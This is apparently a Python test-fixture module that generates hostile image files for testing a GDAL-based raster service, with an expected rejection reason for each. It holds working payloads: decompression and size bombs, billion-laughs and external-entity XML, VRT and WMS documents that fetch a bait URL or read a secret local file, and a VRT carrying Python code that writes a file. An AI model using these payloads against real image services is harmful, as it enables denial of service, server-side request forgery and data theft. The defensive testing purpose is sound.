"""Files that are made to harm who opens them: bombs, documents that name other files, images with planted company."""

import struct
import zlib
from collections.abc import Callable
from functools import cache, partial
from pathlib import Path
from typing import NamedTuple

import numpy as np
from osgeo import gdal

from raster_files import pattern, write_image, write_sicd
from security.tiff_files import (
    GDAL_METADATA,
    TILES,
    plain_tags,
    tiled_tags,
    write_many_offsets_of_one_strip,
    write_tiff,
)

SIDE = 64


class Bait(NamedTuple):
    """Where a file tries to lead: a web server, and a directory with a secret image in it."""

    url: str
    directory: Path

    @property
    def secret(self) -> Path:
        return self.directory / "secret.tif"


class Hostile(NamedTuple):
    """A file, how it is written, and a part of the reason why it fails; None where it is read as what it is."""

    name: str
    write: Callable[[Path, Bait], object]
    reason: str | None


def hostile_files() -> list[Hostile]:
    return [*_bombs(), *_documents(), *_neighbours(), *_metadata()]


# Bombs --------------------------------------------------------------------------------------------------------------

TOO_LARGE, UNREADABLE, UNCHECKED = "is too large", "is not a readable image", "cannot be checked before it is opened"
# A marker that OpenJPEG does not know, and a comment.
NO_MARKER, COMMENT = b"\xff\x30", b"\xff\x64\x00\x05\x00\x01a"


def _bombs() -> list[Hostile]:
    return [
        Hostile("sparse.tif", lambda path, _: write_tiff(path, tiled_tags(2**20, 900_000, 256, 256, 9)), None),
        Hostile("block.tif", lambda path, _: write_tiff(path, tiled_tags(2**20, 900_000, 2**15, 2**15)), TOO_LARGE),
        Hostile("long.tif", lambda path, _: write_tiff(path, tiled_tags(2**31 - 16, 16, 2**24, 16)), TOO_LARGE),
        Hostile("bands.tif", lambda path, _: write_tiff(path, {**plain_tags(16, 16), 277: 60_000}), TOO_LARGE),
        Hostile("count.tif", _claims_many_tiles, UNREADABLE),
        Hostile("offsets.tif", lambda path, _: write_many_offsets_of_one_strip(path), UNCHECKED),
        Hostile("deflate.tif", _deflate_bomb, None),
        Hostile("interlaced.png", lambda path, _: path.write_bytes(_png(40_000, 40_000, 1)), None),
        Hostile("wide.png", lambda path, _: path.write_bytes(_png(2**31 - 1, 2**31 - 1, 0)), UNREADABLE),
        Hostile("text.png", lambda path, _: path.write_bytes(_png(SIDE, SIDE, 0, _compressed_zeros())), None),
        Hostile("tiles.jp2", lambda path, _: path.write_bytes(codestream(255 * 64, 257 * 64, 64, 1)), TOO_LARGE),
        Hostile("tiles64.jp2", lambda path, _: path.write_bytes(codestream(255 * 64, 257 * 64, 64, 64)), TOO_LARGE),
        Hostile("components.jp2", lambda path, _: path.write_bytes(codestream(64, 64, 64, 16_384)), TOO_LARGE),
        Hostile("huge-tile.jp2", lambda path, _: path.write_bytes(codestream(2**20, 900_000, 2**20, 1)), TOO_LARGE),
        Hostile("code-blocks.jp2", lambda path, _: path.write_bytes(codestream(8192, 8192, 8192, 1, 0)), TOO_LARGE),
        Hostile(
            "component.jp2", lambda path, _: path.write_bytes(codestream(8192, 8192, 8192, 1, 4, coc(0))), TOO_LARGE
        ),
        Hostile("again.jp2", lambda path, _: path.write_bytes(codestream(8192, 8192, 8192, 1, 4, cod(0))), TOO_LARGE),
        Hostile(
            "behind.j2k",
            lambda path, _: path.write_bytes(codestream(8192, 8192, 8192, 1, 4, NO_MARKER + cod(0))),
            TOO_LARGE,
        ),
        Hostile(
            "before.jp2",
            lambda path, _: path.write_bytes(jp2(_unknown_first(codestream(8192, 8192, 8192, 1, 0)))),
            TOO_LARGE,
        ),
        Hostile(
            "comments.j2k",
            lambda path, _: path.write_bytes(codestream(8192, 8192, 8192, 1, 4, COMMENT * 1100 + cod(0))),
            UNCHECKED,
        ),
        Hostile(
            "many-boxes.jp2",
            lambda path, _: path.write_bytes(jp2(codestream(255 * 64, 257 * 64, 64, 64), *FREE_BOXES)),
            UNCHECKED,
        ),
        Hostile(
            "long-box.jp2",
            lambda path, _: path.write_bytes(_with_long_signature(jp2(codestream(255 * 64, 257 * 64, 64, 64)))),
            UNCHECKED,
        ),
        Hostile("boxed.jp2", lambda path, _: path.write_bytes(jp2(codestream(255 * 64, 257 * 64, 64, 64))), TOO_LARGE),
        Hostile("boxes.jp2", lambda path, _: path.write_bytes(jp2(b"", _nested_boxes(60_000))), UNREADABLE),
        Hostile("jp2-in.ntf", _nitf_with_codestream, TOO_LARGE),
        Hostile("blocks.ntf", lambda path, _: path.write_bytes(_nitf_header_of(99_990, 9999, 10)), UNREADABLE),
        Hostile("huge.ntf", lambda path, _: path.write_bytes(_nitf_header_of(99_999_999, 1, 0)), TOO_LARGE),
        Hostile("progressive.jpg", _progressive_jpeg, None),
    ]


def _claims_many_tiles(path: Path, _: Bait) -> None:
    write_tiff(path, tiled_tags(2**20, 900_000, 16, 16, 1), counts={TILES: 2**32, 325: 2**32})


def _deflate_bomb(path: Path, _: Bait) -> None:
    """256 MiB of zeros in one tile of 256 KiB, which is as large as a tile may be."""
    body = _compressed_zeros()
    tags = {**tiled_tags(2**14, 2**14, 2**14, 2**14), 259: 8, TILES: 0, 325: len(body)}
    write_tiff(path, tags, body)


@cache
def _compressed_zeros() -> bytes:
    """Return 256 MiB of zeros, compressed, which takes a second."""
    return zlib.compress(bytes(2**28), 9)


def _png(width: int, height: int, interlace: int, text: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, interlace)
    texts = chunk(b"zTXt", b"title\0\0" + text) if text else b""
    pixels = zlib.compress(bytes(min(height, 4096) * (min(width, 4096) + 1)), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + texts + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def codestream(width: int, height: int, tile: int, components: int, code_block: int = 4, more: bytes = b"") -> bytes:
    """Return a JPEG 2000 codestream with one empty tile; code-blocks are 2^(code_block + 2) pixels wide and high.

    ``more`` are segments behind the required ones.
    """
    size = struct.pack(">HHIIIIIIIIH", 38 + 3 * components, 0, width, height, 0, 0, tile, tile, 0, 0, components)
    quantization = struct.pack(">HHB", 0xFF5C, 3 + 16, 0x40) + b"\x48" * 16
    tile_part = struct.pack(">HHHIBB", 0xFF90, 10, 0, 0, 0, 1) + b"\xff\x93" + bytes(50)
    headers = size + b"\x07\x01\x01" * components + cod(code_block) + quantization + more
    return b"\xff\x4f\xff\x51" + headers + tile_part + b"\xff\xd9"


def cod(code_block: int) -> bytes:
    return struct.pack(">HHBBHBBBBBB", 0xFF52, 12, 0, 0, 1, 0, 5, code_block, code_block, 0, 1)


def coc(code_block: int) -> bytes:
    """Return the segment that sets the code-blocks of the first component alone."""
    return struct.pack(">HHBBBBBBB", 0xFF53, 9, 0, 0, 5, code_block, code_block, 0, 1)


def _unknown_first(stream: bytes) -> bytes:
    return stream[:2] + NO_MARKER + stream[2:]


def box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", 8 + len(content)) + kind + content


FREE_BOXES = [box(b"free", b"")] * 1100


def _with_long_signature(body: bytes) -> bytes:
    """Return a JP2 whose signature box has its length in 64 bits."""
    return struct.pack(">I4sQ", 1, b"jP  ", 20) + body[8:]


def jp2(stream: bytes, *boxes: bytes) -> bytes:
    """Return a JP2 file of one grey band, with more boxes before the codestream."""
    width, height = struct.unpack(">II", stream[8:16]) if stream else (SIDE, SIDE)
    header = box(b"ihdr", struct.pack(">IIHBBBB", height, width, 1, 7, 7, 0, 0))
    colour = box(b"colr", struct.pack(">BBBI", 1, 0, 0, 17))
    signature = box(b"jP  ", b"\r\n\x87\n") + box(b"ftyp", b"jp2 \0\0\0\0jp2 ")
    end = box(b"jp2c", stream) if stream else b""
    return signature + box(b"jp2h", header + colour) + b"".join(boxes) + end


def _nested_boxes(depth: int) -> bytes:
    label = box(b"lbl ", b"gml.data")
    sizes = range(len(label) + 8 * depth, len(label), -8)
    return b"".join(struct.pack(">I", size) + b"asoc" for size in sizes) + label


def _small(path: Path, driver: str = "GTiff", options: tuple[str, ...] = (), **georeference: object) -> Path:
    return write_image(path, pattern(1, SIDE, SIDE), driver, options, **georeference)


def _nitf_with_codestream(path: Path, _: Bait) -> None:
    """A NITF whose image segment declares JPEG 2000, and holds JPEG 2000."""
    _small(path, "NITF", ("IC=C8",))
    body = path.read_bytes()
    path.write_bytes(body[: body.index(b"\xff\x4f\xff\x51")] + codestream(255 * 64, 257 * 64, 64, 64))


def _nitf_header_of(side: int, blocks: int, block_side: int) -> bytes:
    """Return a NITF without pixels that claims so many of them."""
    name = f"/vsimem/nitf-{side}"
    _small(Path(name), "NITF")
    file = gdal.VSIFOpenL(name, "rb")
    body = bytes(gdal.VSIFReadL(1, 10_000, file))
    gdal.VSIFCloseL(file)
    gdal.Unlink(name)
    claimed = f"{side:08}{side:08}INT"
    body = body.replace(f"{SIDE:08}{SIDE:08}INT".encode(), claimed.encode())
    return body.replace(
        f"B00010001{SIDE:04}{SIDE:04}".encode(), f"B{blocks:04}{blocks:04}{block_side:04}{block_side:04}".encode()
    )


def _progressive_jpeg(path: Path, _: Bait) -> None:
    """A picture that is decoded as a whole, whichever part of it is wanted: 60 MB of coefficients."""
    memory = gdal.GetDriverByName("MEM").Create("", 5_500, 5_500, 1, gdal.GDT_Byte)
    gdal.GetDriverByName("JPEG").CreateCopy(str(path), memory, options=["PROGRESSIVE=YES", "QUALITY=10"])


# Documents that are not images --------------------------------------------------------------------------------------


def _documents() -> list[Hostile]:
    return [Hostile(name, _writer(text), "is a GDAL VRT|" + UNREADABLE) for name, text in _TEXTS.items()]


def _writer(text: str) -> Callable[[Path, Bait], object]:
    return lambda path, bait: path.write_text(text.format(url=bait.url, secret=bait.secret, directory=bait.directory))


_VRT = '<VRTDataset rasterXSize="64" rasterYSize="64"><VRTRasterBand dataType="Byte" band="1"{band}</VRTDataset>'
_SIMPLE = '><SimpleSource><SourceFilename relativeToVRT="0">{}</SourceFilename></SimpleSource></VRTRasterBand>'
_TEXTS = {
    "vrt-web.tif": _VRT.replace("{band}", _SIMPLE.replace("{}", "/vsicurl/{url}/a.tif")),
    "vrt-file.tif": _VRT.replace("{band}", _SIMPLE.replace("{}", "{secret}")),
    "vrt-blank.tif": "\n\n  " + _VRT.replace("{band}", _SIMPLE.replace("{}", "{secret}")),
    "vrt-raw.ntf": _VRT.replace(
        "{band}", ' subClass="VRTRawRasterBand"><SourceFilename>{secret}</SourceFilename></VRTRasterBand>'
    ),
    "vrt-python.jp2": _VRT.replace(
        "{band}",
        ' subClass="VRTDerivedRasterBand"><PixelFunctionType>f</PixelFunctionType><PixelFunctionLanguage>Python'
        "</PixelFunctionLanguage><PixelFunctionCode>import os; open('{directory}/owned', 'w')</PixelFunctionCode>"
        "</VRTRasterBand>",
    ),
    "vrt-warped.png": '<VRTDataset rasterXSize="64" rasterYSize="64" subClass="VRTWarpedDataset"><GDALWarpOptions>'
    "<SourceDataset>{secret}</SourceDataset></GDALWarpOptions></VRTDataset>",
    "wms.tif": '<GDAL_WMS><Service name="WMS"><ServerUrl>{url}/wms?</ServerUrl></Service></GDAL_WMS>',
    "tms.tif": '<GDAL_WMS><Service name="TMS"><ServerUrl>{url}/${{z}}</ServerUrl></Service></GDAL_WMS>',
    "wcs.tif": "<WCS_GDAL><ServiceURL>{url}/wcs?</ServiceURL><CoverageName>a</CoverageName></WCS_GDAL>",
    "wmts.tif": "<GDAL_WMTS><GetCapabilitiesUrl>{url}/wmts</GetCapabilitiesUrl></GDAL_WMTS>",
    "gti.tif": "<GDALTileIndexDataset><IndexDataset>{url}/index.gpkg</IndexDataset></GDALTileIndexDataset>",
    "stac.tif": '{{"stac_version": "1.0.0", "assets": {{"a": {{"href": "{url}/a.tif"}}}}}}',
    "eedai.tif": '{{"type": "FeatureCollection", "features": [], "url": "{url}"}}',
    "subdataset.tif": 'GTIFF_DIR:1:{secret}',
    "zarr.tif": '{{"zarr_format": 2, "shape": [64, 64], "path": "{url}"}}',
    "pds.tif": "PDS_VERSION_ID = PDS3\n^IMAGE = \"{secret}\"\nEND\n",
    "ermapper.tif": 'DatasetHeader Begin\n\tDataFile = "{secret}"\nDatasetHeader End\n',
    "envi.tif": "ENVI\nsamples = 64\nlines = 64\nbands = 1\ndata type = 1\n",
    "mapserver.tif": "! ArcGIS Cache\n{secret}\n",
    "derived.tif": "DERIVED_SUBDATASET:LOGAMPLITUDE:{secret}",
    "empty.tif": "",
    "zip.tif": "PK\x03\x04{secret}",
}  # fmt: skip


# Images with neighbours that would change what they mean -------------------------------------------------------------

_PAM = (
    "<PAMDataset><GeoTransform>10, 0.1, 0, 20, 0, -0.1</GeoTransform><Metadata domain='OVERVIEWS'>"
    "<MDI key='OVERVIEW_FILE'>/vsicurl/{url}/ovr.tif</MDI></Metadata><Metadata><MDI key='planted'>yes</MDI></Metadata>"
    "</PAMDataset>"
)
_WORLD = "0.1\n0\n0\n-0.1\n10\n20\n"
_NEIGHBOURS = {
    ".aux.xml": _PAM,
    ".ovr": _TEXTS["vrt-web.tif"],
    ".msk": _TEXTS["vrt-file.tif"],
    ".aux": "EHFA_HEADER_TAG",
    ".r1": _TEXTS["vrt-web.tif"],
    ".hdr": "ENVI",
    ".imd": "BEGIN_GROUP = IMAGE_1",
    ".xml": "<isd/>",
}
_WORLD_FILES = (".tfw", ".wld", ".pgw", ".jgw", ".j2w", ".nfw", ".ntfw", ".tifw", ".RPB", "_RPC.TXT", ".tab", ".rpb")


def _neighbours() -> list[Hostile]:
    drivers = {"tif": "GTiff", "ntf": "NITF", "png": "PNG", "jpg": "JPEG", "jp2": "JP2OpenJPEG"}
    return [
        Hostile(f"neighbours.{suffix}", lambda path, bait, driver=driver: _with_neighbours(path, bait, driver), None)
        for suffix, driver in drivers.items()
    ]


def _with_neighbours(path: Path, bait: Bait, driver: str) -> None:
    _small(path, driver)
    for suffix, text in _NEIGHBOURS.items():
        _writer(text)(path.with_name(path.name + suffix), bait)
        _writer(text)(path.with_suffix(suffix), bait)
    for suffix in _WORLD_FILES:
        path.with_name(path.stem + suffix).write_text(_WORLD)


# Images with metadata that name other files --------------------------------------------------------------------------


def _metadata() -> list[Hostile]:
    items = [
        ("overview-web", "OVERVIEWS", "OVERVIEW_FILE", "/vsicurl/{url}/ovr.tif"),
        ("overview-file", "OVERVIEWS", "OVERVIEW_FILE", "{secret}"),
        ("overview-memory", "OVERVIEWS", "OVERVIEW_FILE", "MEM:::DATAPOINTER=4096,PIXELS=64,LINES=64"),
        ("geolocation", "GEOLOCATION", "X_DATASET", "/vsicurl/{url}/x.tif"),
        ("subdatasets", "SUBDATASETS", "SUBDATASET_1_NAME", "{secret}"),
        ("xml-vrt", "xml:VRT", "a", _TEXTS["vrt-web.tif"]),
        ("rpc", "RPC", "LINE_OFF", "1e999"),
    ]
    return [
        *(Hostile(f"{name}.tif", partial(_tagged, item=item), None) for name, *item in items),
        Hostile("deep-xml.tif", lambda path, _: _metadata_text(path, b"<a>" * 300_000), None),
        Hostile("long-xml.tif", lambda path, _: _metadata_text(path, b"x" * 1_000_000), None),
        Hostile("gml.jp2", _gml, None),
        Hostile("laughs.ntf", lambda path, _: _sicd_with(path, _LAUGHS), None),
        Hostile("entity.ntf", _external_entity, None),
        Hostile("domains.tif", lambda path, _: _metadata_text(path, metadata_of_domains(20_000)), TOO_LARGE),
        Hostile("domains.jp2", _domains_in_box, TOO_LARGE),
        *(
            Hostile(f"domains-{name}.tif", lambda path, _, text=text: _metadata_text(path, text), TOO_LARGE)
            for name, text in _other_domains()
        ),
        Hostile("domains-16-bit.tif", _wide_domains, UNCHECKED),
        Hostile(
            "items-lower.tif", lambda path, _: _metadata_text(path, b"<GDALMetadata>" + b"<item/>" * 60_000), TOO_LARGE
        ),
        Hostile("items.tif", lambda path, _: _metadata_text(path, b"<GDALMetadata>" + b"<Item/>" * 60_000), TOO_LARGE),
        Hostile("points.tif", _many_tie_points, TOO_LARGE),
        *(
            Hostile(f"{name}.tif", lambda path, bait, text=text: write_crs(path, text, str(bait.secret)), NAMES_FILES)
            for name, text in CRS_TEXTS.items()
        ),
        Hostile(
            "wide-crs.tif",
            lambda path, bait: write_crs(path, CRS_TEXTS["grids"], str(bait.secret), is_wide=True),
            UNCHECKED,
        ),
        Hostile("boxed-crs.jp2", _boxed_crs, NAMES_FILES),
        Hostile("crs-behind-boxes.jp2", _crs_behind_boxes, UNCHECKED),
        Hostile("crs-long-box.jp2", _crs_behind_long_signature, UNCHECKED),
        *(
            Hostile(f"crs-{name}.ntf", lambda path, bait, head=head: _crs_in_nitf(path, bait, head), reason)
            for name, head, reason in NITF_HEADS
        ),
        Hostile("gml-crs.jp2", _gml_crs, NAMES_FILES),
        Hostile("plain-crs.tif", lambda path, _: write_crs(path, PLAIN_CRS, ""), None),
    ]


NAMES_FILES = "names grids, files or transformations"


# How a NITF may begin, by what GDAL reads: signature and version, the length of the header with its digits.
NITF_HEADS = [
    ("plain", (b"NITF02.10", b"%06d"), NAMES_FILES),
    ("other-version", (b"NITF02.11", b"%06d"), NAMES_FILES),
    ("lower-case", (b"nitf02.10", b"%06d"), NAMES_FILES),
    ("blanks", (b"NITF02.10", b"%6d"), UNCHECKED),
    ("sign", (b"NITF02.10", b"%+6d"), UNCHECKED),
]


def _crs_in_nitf(path: Path, bait: Bait, head: tuple[bytes, bytes]) -> None:
    """A NITF whose pixels are a JP2 with such a coordinate system."""
    boxed = path.with_name("pixels.jp2")  # GDAL writes a JP2 under a name that ends so, else a bare codestream
    _boxed_crs(boxed, bait)
    pixels = boxed.read_bytes()
    boxed.unlink()
    _small(path, "NITF", ("IC=C8",))
    body = path.read_bytes()
    start = body.index(b"\xff\x4f\xff\x51")
    signature, length = head
    header = signature + body[9:342] + b"%012d" % (start + len(pixels)) + length % int(body[354:360])
    path.write_bytes(header + body[360:369] + b"%010d" % len(pixels) + body[379:start] + pixels)


def _crs_behind_boxes(path: Path, bait: Bait) -> None:
    _boxed_crs(path, bait, b"".join(FREE_BOXES))


def _crs_behind_long_signature(path: Path, bait: Bait) -> None:
    _boxed_crs(path, bait)
    path.write_bytes(_with_long_signature(path.read_bytes()))


def _other_domains() -> list[tuple[str, bytes]]:
    """Return the same domains as GDAL reads them too: in capitals, and without quotes."""
    text = metadata_of_domains(5_000)
    return [("capitals", text.replace(b"domain", b"DOMAIN")), ("bare", text.replace(b'"', b""))]


def _wide_domains(path: Path, _: Bait) -> None:
    """A text in numbers of 16 bits, which libtiff takes for characters."""
    tags = {**plain_tags(SIDE, SIDE), GDAL_METADATA: [*metadata_of_domains(5_000), 0]}
    write_tiff(path, tags, pattern(1, SIDE, SIDE).tobytes(), kinds={GDAL_METADATA: 3})


def _domains_in_box(path: Path, _: Bait) -> None:
    text = b"".join(b'<Metadata domain="d%d"><MDI key="a">b</MDI></Metadata>' % number for number in range(5_000))
    _insert_box(path, box(b"xml ", b"<GDALMultiDomainMetadata>" + text + b"</GDALMultiDomainMetadata>"))


def metadata_of_domains(count: int) -> bytes:
    items = b"".join(b'<Item name="a" domain="d%d">b</Item>' % number for number in range(count))
    return b"<GDALMetadata>" + items + b"</GDALMetadata>"


def _many_tie_points(path: Path, _: Bait) -> None:
    write_tiff(path, {**plain_tags(SIDE, SIDE), 33922: [0] * 6 * 10_001}, kinds={33922: 12})


def _tagged(path: Path, bait: Bait, item: list[str]) -> None:
    domain, key, value = item
    text = value.format(url=bait.url, secret=bait.secret).replace("<", "&lt;")
    document = f'<GDALMetadata><Item name="{key}" domain="{domain}">{text}</Item></GDALMetadata>'
    _metadata_text(path, document.encode())


def _metadata_text(path: Path, text: bytes) -> None:
    write_tiff(path, {**plain_tags(SIDE, SIDE), GDAL_METADATA: text}, pattern(1, SIDE, SIDE).tobytes())


def _gml(path: Path, bait: Bait) -> None:
    """A JP2 whose georeference refers to a web server, with a schema on that server as well."""
    grid = (
        f'<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" xmlns:xsi="http://www.w3.org/2001/XMLSchema-'
        f'instance" xmlns:xlink="http://www.w3.org/1999/xlink" xsi:schemaLocation="a {bait.url}/a.xsd">'
        f'<gml:featureMember xlink:href="{bait.url}/b.gml"><gml:RectifiedGridCoverage><gml:rectifiedGridDomain>'
        f'<gml:RectifiedGrid dimension="2"><gml:limits><gml:GridEnvelope><gml:low>0 0</gml:low><gml:high>63 63'
        f'</gml:high></gml:GridEnvelope></gml:limits><gml:origin><gml:Point srsName="{bait.url}/srs.xml"><gml:pos>1 2'
        f"</gml:pos></gml:Point></gml:origin><gml:offsetVector>0.1 0</gml:offsetVector><gml:offsetVector>0 0.1"
        f"</gml:offsetVector></gml:RectifiedGrid></gml:rectifiedGridDomain></gml:RectifiedGridCoverage>"
        f"</gml:featureMember></gml:FeatureCollection>"
    )
    instance = box(b"asoc", box(b"lbl ", b"gml.root-instance") + box(b"xml ", grid.encode()))
    _small(path, "JP2OpenJPEG")
    body = path.read_bytes()
    at = body.index(b"jp2c") - 4
    path.write_bytes(body[:at] + box(b"asoc", box(b"lbl ", b"gml.data") + instance) + body[at:])


_LAUGHS = "<!DOCTYPE S [<!ENTITY a0 'ha'>{}]>".format(
    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
)


def _sicd_with(path: Path, doctype: str) -> None:
    """A SICD document with a document type before it, as long as the document whose place it takes."""
    write_sicd(path, SIDE, SIDE)
    body = path.read_bytes()
    start = body.index(b"<SICD")
    end = body.index(b"</SICD>") + len("</SICD>")
    document = (doctype + "<SICD>" + ("&a11;" if "a11" in doctype else "&x;") + "</SICD>").encode()
    path.write_bytes(body[:start] + document.ljust(end - start) + body[end:])


def _external_entity(path: Path, bait: Bait) -> None:
    _sicd_with(
        path, f"<!DOCTYPE S [<!ENTITY x SYSTEM '{bait.directory}/secret.txt'><!ENTITY % y SYSTEM '{bait.url}/x'> %y;]>"
    )


_SPHEROID = 'SPHEROID["GRS 1980",6378137,298.257]'
_UNITS = 'PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]'
_UTM = (
    'PROJECTION["Transverse_Mercator"],PARAMETER["latitude_of_origin",0],PARAMETER["central_meridian",3],'
    'PARAMETER["scale_factor",0.9996],PARAMETER["false_easting",500000],PARAMETER["false_northing",0],UNIT["metre",1]'
)
PLAIN_CRS = f'PROJCS["x",GEOGCS["y",DATUM["z",{_SPHEROID}],{_UNITS}],{_UTM}]'
# Coordinate systems that are to be shifted by a grid; GDAL opens the file of the first three.
CRS_TEXTS = {
    "grids": PLAIN_CRS.replace("298.257]", '298.257],EXTENSION["PROJ4_GRIDS","{path}"]', 1),
    "geographic": f'GEOGCS["y",DATUM["z",{_SPHEROID},EXTENSION["PROJ4_GRIDS","{{path}}"]],{_UNITS}]',
    "bound": 'BOUNDCRS[SOURCECRS[GEOGCRS["y",DATUM["z",ELLIPSOID["GRS 1980",6378137,298.257]],CS[ellipsoidal,2],'
    'AXIS["lat",north],AXIS["lon",east],ANGLEUNIT["degree",0.0174532925199433]]],TARGETCRS[GEOGCRS["WGS 84",'
    'DATUM["World Geodetic System 1984",ELLIPSOID["WGS 84",6378137,298.257223563]],CS[ellipsoidal,2],'
    'AXIS["lat",north],AXIS["lon",east],ANGLEUNIT["degree",0.0174532925199433]]],ABRIDGEDTRANSFORMATION["x",'
    'METHOD["NTv2",ID["EPSG",9615]],PARAMETERFILE["Latitude and longitude difference file","{path}"]]]',
    "proj-string": PLAIN_CRS[:-1] + ',EXTENSION["PROJ4","+proj=utm +zone=31 +nadgrids={path} +units=m"]]',
    "pipeline": 'PROJCRS["x",BASEGEOGCRS["y",DATUM["z",ELLIPSOID["GRS 1980",6378137,298.257]]],CONVERSION["c",METHOD['
    '"PROJ-based operation method: +proj=pipeline +step +proj=hgridshift +grids={path}"]],CS[Cartesian,2],'
    'AXIS["e",east],AXIS["n",north],LENGTHUNIT["metre",1]]',
}


def write_crs(path: Path, text: str, grid: str, is_wide: bool = False) -> None:
    """Write a GeoTIFF whose coordinate system is WKT that GDAL parses, as ESRI's software writes it.

    ``is_wide``: the text is stored in numbers of 16 bits, which libtiff takes for characters.
    """
    citation = f"ESRI PE String = {text.replace('{path}', grid)}|".encode()
    keys = [(1024, 0, 32767), (1025, 0, 1), (2048, 0, 32767), (2050, 0, 32767), (2054, 0, 9102), (2056, 0, 7019)]
    keys += [(3072, 0, 32767), (3073, 34737, len(citation)), (3074, 0, 32767), (3076, 0, 9001)]
    words = [(key, 34737, value, 0) if tag else (key, 0, 1, value) for key, tag, value in keys]
    header = [1, 1, 0, len(keys)]
    tags = {**plain_tags(SIDE, SIDE), 34737: [*citation, 0] if is_wide else citation}
    write_geo_tiff(path, tags, header + [word for entry in words for word in entry])


def _boxed_crs(path: Path, bait: Bait, before: bytes = b"") -> None:
    """A JPEG 2000 whose GeoJP2 box is such a GeoTIFF, with more boxes before it."""
    write_crs(path, CRS_TEXTS["grids"], str(bait.secret))
    _insert_box(path, before + box(b"uuid", bytes.fromhex("b14bf8bd083d4b43a5ae8cd7d5a6ce03") + path.read_bytes()))


def _gml_crs(path: Path, bait: Bait) -> None:
    text = f'<gml:PROJ4 srs="+proj=utm +nadgrids={bait.secret}"/>'.encode()
    _insert_box(path, box(b"asoc", box(b"lbl ", b"gml.data") + box(b"xml ", text)))


def _insert_box(path: Path, inserted: bytes) -> None:
    _small(path, "JP2OpenJPEG")
    body = path.read_bytes()
    at = body.index(b"jp2c") - 4
    path.write_bytes(body[:at] + inserted + body[at:])


def write_geo_tiff(path: Path, tags: dict[int, int | bytes | list[int]], keys: list[int]) -> None:
    """Write a TIFF of a small grid of pixels with GeoTIFF keys (OGC 19-008r4)."""
    doubles = {33550: [0.5, 0.5, 0.0], 33922: [0.0, 0.0, 0.0, 500_000.0, 5_400_000.0, 0.0]}
    bits = {tag: [int(word) for word in np.asarray(values).view(np.uint64)] for tag, values in doubles.items()}
    write_tiff(
        path,
        {**tags, **bits, 34735: keys},
        pattern(1, SIDE, SIDE).tobytes(),
        kinds={33550: 12, 33922: 12, 34735: 3, 34737: 3},
    )
